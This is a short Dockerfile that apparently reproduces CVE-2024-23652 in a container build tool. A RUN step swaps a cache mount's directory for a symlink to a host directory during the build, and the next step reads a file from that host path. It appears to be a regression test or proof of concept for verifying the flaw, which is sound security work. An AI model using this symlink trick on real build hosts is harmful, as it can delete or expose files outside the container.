# A step puts a link to the machine where the directory of a mount point was, which is taken away afterwards (CVE-2024-23652).
ARG BASE
FROM ${BASE}
ARG HOST_DIRECTORY
RUN --mount=type=cache,target=/a/empty mv /a /moved; ln -s "$HOST_DIRECTORY" /a; true
RUN cat "$HOST_DIRECTORY/file"
